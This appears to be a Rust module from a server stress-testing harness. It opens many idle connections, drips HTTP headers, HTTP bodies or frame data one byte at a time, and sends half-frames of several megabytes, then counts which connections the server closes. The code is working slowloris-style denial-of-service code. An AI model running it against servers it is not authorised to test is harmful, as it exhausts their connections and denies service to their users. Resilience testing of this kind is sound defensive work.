//! Attacks below the protocol: connections that say nothing, or one byte at a time.

use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;

use super::client::dial;
use super::frames::header;
use super::{Attack, CLOSED, OPEN, PATIENCE, Tally};

/// Time between two bytes of a dripping connection.
const DRIP_INTERVAL: Duration = Duration::from_millis(200);
/// Time that a connection has to take a half frame.
const SEND_TIME: Duration = Duration::from_millis(500);
/// Bytes that a dripping frame announces.
const DRIPPING_BYTES: u32 = 1 << 20;

/// Beginning of a message that a client sends one byte at a time.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Drip {
    /// Header of a frame.
    Frame,
    /// Headers of an HTTP request, which never end.
    HttpHeaders,
    /// Body of an HTTP request.
    HttpBody,
}

impl Drip {
    fn bytes(self) -> Vec<u8> {
        match self {
            Drip::Frame => [header(DRIPPING_BYTES, 0, 0), vec![0; 1 << 16]].concat(),
            Drip::HttpHeaders => [b"GET / HTTP/1.1\r\nHost: a\r\nX-Name: ".to_vec(), vec![b'a'; 1 << 16]].concat(),
            Drip::HttpBody => {
                let head = "POST /classify HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n";
                let body = format!("Content-Length: 60000\r\n\r\n{{\"text\": \"{}\"}}", "a".repeat(50_000));
                format!("{head}{body}").into_bytes()
            }
        }
    }
}

/// Opens `n` connections that say nothing.
pub fn silent_connections(addr: &str, n: usize) -> Attack {
    connections(addr, n, None)
}

/// Opens `n` connections that send a message one byte at a time.
pub fn dripping_connections(addr: &str, n: usize, drip: Drip) -> Attack {
    connections(addr, n, Some(drip))
}

/// Opens `n` connections, on each of which this many megabytes arrive: half of a frame.
pub fn half_frames(addr: &str, n: usize, megabytes: usize) -> Attack {
    let addr = addr.to_owned();
    Attack::start(move |tally| async move {
        let mut open = Vec::new();
        for _ in 0..n {
            let Some(mut stream) = connect(&addr, &tally).await else { break };
            let half = vec![0; megabytes << 20];
            let announced = u32::try_from(2 * half.len()).unwrap_or(u32::MAX);
            let begun = [header(announced, 0, 0), half].concat();
            // A server that has read enough stops reading, or closes the connection.
            let _ = tokio::time::timeout(SEND_TIME, stream.write_all(&begun)).await;
            open.push(stream);
        }
        count_open(&tally, &mut open).await;
        open
    })
}

fn connections(addr: &str, n: usize, drip: Option<Drip>) -> Attack {
    let addr = addr.to_owned();
    Attack::start(move |tally| async move {
        let (mut silent, mut dripping) = (Vec::new(), JoinSet::new());
        for _ in 0..n {
            let Some(stream) = connect(&addr, &tally).await else { break };
            match drip {
                None => silent.push(stream),
                Some(drip) => {
                    dripping.spawn_local(send_slowly(stream, drip.bytes()));
                }
            }
        }
        count_open(&tally, &mut silent).await;
        // A task ends early if the server closes its connection.
        while dripping.try_join_next().is_some() {
            tally.add(CLOSED);
        }
        tally.add_many(OPEN, dripping.len());
        (silent, dripping)
    })
}

/// Connects; `None`, which is counted, if the server accepts no more connections.
pub(super) async fn connect(addr: &str, tally: &Tally) -> Option<TcpStream> {
    match tokio::time::timeout(PATIENCE, dial(addr)).await {
        Ok(Ok(stream)) => Some(stream),
        Ok(Err(_)) | Err(_) => {
            tally.add(CLOSED);
            None
        }
    }
}

/// Sends the bytes one at a time, until the server closes the connection.
async fn send_slowly(mut stream: TcpStream, bytes: Vec<u8>) {
    let mut answer = [0; 64];
    for byte in bytes {
        if stream.write_all(&[byte]).await.is_err() {
            return;
        }
        if let Ok(Ok(0) | Err(_)) = tokio::time::timeout(DRIP_INTERVAL, stream.read(&mut answer)).await {
            return;
        }
    }
}

/// Waits for the server to act, then counts the connections that it has closed and those that are open.
pub(super) async fn count_open(tally: &Tally, streams: &mut Vec<TcpStream>) {
    tokio::time::sleep(PATIENCE).await;
    streams.retain(|stream| {
        let mut byte = [0];
        let is_open = match stream.try_read(&mut byte) {
            Ok(read) => read > 0,
            Err(error) => error.kind() == std::io::ErrorKind::WouldBlock,
        };
        tally.add(if is_open { OPEN } else { CLOSED });
        is_open
    });
}
